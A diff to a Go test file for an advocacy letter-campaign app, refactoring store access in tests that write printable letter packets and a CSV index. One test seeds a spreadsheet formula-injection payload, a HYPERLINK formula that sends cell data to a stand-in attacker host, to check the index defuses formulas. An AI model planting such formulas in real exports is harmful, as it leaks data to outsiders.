@@ -17,6 +17,7 @@ import (
 	"github.com/advocate-org/advocate/app/letter/pdf"
 	"github.com/advocate-org/advocate/app/packets"
 	"github.com/advocate-org/advocate/app/store"
+	"github.com/advocate-org/advocate/app/store/views"
 )
 
 type fixture struct {
@@ -38,7 +39,7 @@ func newFixture(tb testing.TB) *fixture {
 	}
 	c := &app.Campaign{Slug: "free-guan-heng", Title: "Free Guan Heng", Status: app.CampaignOpen,
 		Ask: "Release Guan Heng on bond.", Delivery: app.DeliverySettings{OrgName: "Friends of Guan Heng"}}
-	if err := db.CreateCampaign(ctx, c); err != nil {
+	if err := db.Campaigns.CreateCampaign(ctx, c); err != nil {
 		tb.Fatal(err)
 	}
 	return &fixture{db: db, camp: c}
@@ -75,7 +76,7 @@ func (f *fixture) add(tb testing.TB, at time.Time, confirmed bool, targets ...ap
 		s.Letters = append(s.Letters, app.Letter{CampaignID: f.camp.ID, Recipient: t, Subject: "Free Guan Heng",
 			Body: t.Greeting + "\n\nPlease help Guan Heng.\n\nSincerely,\n\nWriter " + fmt.Sprint(f.seq), CreatedAt: at})
 	}
-	if _, err := f.db.CreateSubmission(context.Background(), s); err != nil {
+	if _, err := f.db.Submissions.CreateSubmission(context.Background(), s); err != nil {
 		tb.Fatal(err)
 	}
 }
@@ -137,7 +138,7 @@ func TestWhoMayPrintPackets(t *testing.T) {
 		t.Run(r.name, func(t *testing.T) {
 			rec := &recorder{}
 			dir := filepath.Join(t.TempDir(), "out")
-			w := packets.New(packets.Options{Store: f.db, PDF: maker(t), Audit: rec, Operator: "alice@host"})
+			w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), Audit: rec, Operator: "alice@host"})
 			res, err := w.Write(r.ctx, "free-guan-heng", dir)
 			if r.want != "" {
 				if app.ErrorCodeOf(err) != r.want || res != nil {
@@ -158,7 +159,7 @@ func TestWhoMayPrintPackets(t *testing.T) {
 	}
 	// No record, no packets.
 	dir := filepath.Join(t.TempDir(), "out")
-	w := packets.New(packets.Options{Store: f.db, PDF: maker(t), Audit: &recorder{fail: errors.New("disk full")}})
+	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), Audit: &recorder{fail: errors.New("disk full")}})
 	if _, err := w.Write(supporterData, "free-guan-heng", dir); err == nil {
 		t.Fatal("packets written without an audit record")
 	}
@@ -176,7 +177,7 @@ func TestIndexDefusesFormulas(t *testing.T) {
 	evil.Key, evil.Name, evil.LastName, evil.Title = "exec:EVIL", `=HYPERLINK("http://evil.example/?"&A1,"open")`, "Evil", "@SUM(1+1)"
 	f.add(t, time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC), true, evil)
 	dir := t.TempDir()
-	if _, err := packets.New(packets.Options{Store: f.db, PDF: maker(t)}).Write(supporterData, "free-guan-heng", dir); err != nil {
+	if _, err := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t)}).Write(supporterData, "free-guan-heng", dir); err != nil {
 		t.Fatal(err)
 	}
 	rows, err := readCSV(filepath.Join(dir, "index.csv"))
@@ -198,7 +199,7 @@ func TestWritePackets(t *testing.T) {
 	f.add(t, day, false, tonko, dhs) // unconfirmed: not in any packet
 	dir := t.TempDir()
 	var progress []packets.Progress
-	w := packets.New(packets.Options{Store: f.db, PDF: maker(t), VolumeSize: 2, PageSize: 3, Location: time.UTC,
+	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), VolumeSize: 2, PageSize: 3, Location: time.UTC,
 		Clock:    func() time.Time { return day.Add(30 * 24 * time.Hour) },
 		Progress: func(p packets.Progress) { progress = append(progress, p) }})
 	res, err := w.Write(supporterData, "free-guan-heng", dir)
@@ -259,7 +260,7 @@ func readCSV(path string) ([][]string, error) {
 
 func TestUnknownCampaign(t *testing.T) {
 	f := newFixture(t)
-	w := packets.New(packets.Options{Store: f.db, PDF: maker(t)})
+	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t)})
 	if _, err := w.Write(supporterData, "nope", t.TempDir()); app.ErrorCodeOf(err) != app.ENOTFOUND {
 		t.Errorf("err = %v", err)
 	}
@@ -273,7 +274,7 @@ func BenchmarkPackets(b *testing.B) {
 	for i := 0; i < b.N; i++ {
 		f.add(b, day, true, tonko)
 	}
-	w := packets.New(packets.Options{Store: f.db, PDF: maker(b), Location: time.UTC})
+	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(b), Location: time.UTC})
 	dir := b.TempDir()
 	b.ReportAllocs()
 	b.ResetTimer()
